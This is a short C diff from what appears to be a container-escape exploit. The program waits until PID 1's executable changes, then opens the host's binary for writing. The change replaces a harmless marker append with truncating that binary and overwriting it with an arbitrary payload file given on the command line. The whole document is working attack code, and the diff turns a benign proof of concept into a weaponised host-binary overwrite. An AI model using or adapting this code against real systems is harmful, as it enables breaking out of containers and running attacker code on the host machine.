@@ -58,9 +58,12 @@ int main(int argc, char **argv) {
         readlink("/proc/1/exe", now, sizeof now - 1);
         if (strcmp(now, link) != 0) { printf("PID 1 now runs %s\n", now); break; }
     }
-    w = open(self, O_WRONLY | O_APPEND);
+    int payload = argc > 2 ? open(argv[2], O_RDONLY) : -1;
+    w = open(self, payload >= 0 ? (O_WRONLY | O_TRUNC) : (O_WRONLY | O_APPEND));
     if (w < 0) { printf("write-open after the exec: %s\n", strerror(errno)); return 1; }
-    ssize_t n = write(w, marker, strlen(marker));
-    printf("appended %zd bytes to the host's %s\n", n, link);
+    ssize_t n = 0;
+    if (payload >= 0) { char b[65536]; ssize_t k; while ((k = read(payload, b, sizeof b)) > 0) n += write(w, b, k); }
+    else n = write(w, marker, strlen(marker));
+    printf("wrote %zd bytes to the host's %s\n", n, link);
     return 0;
 }
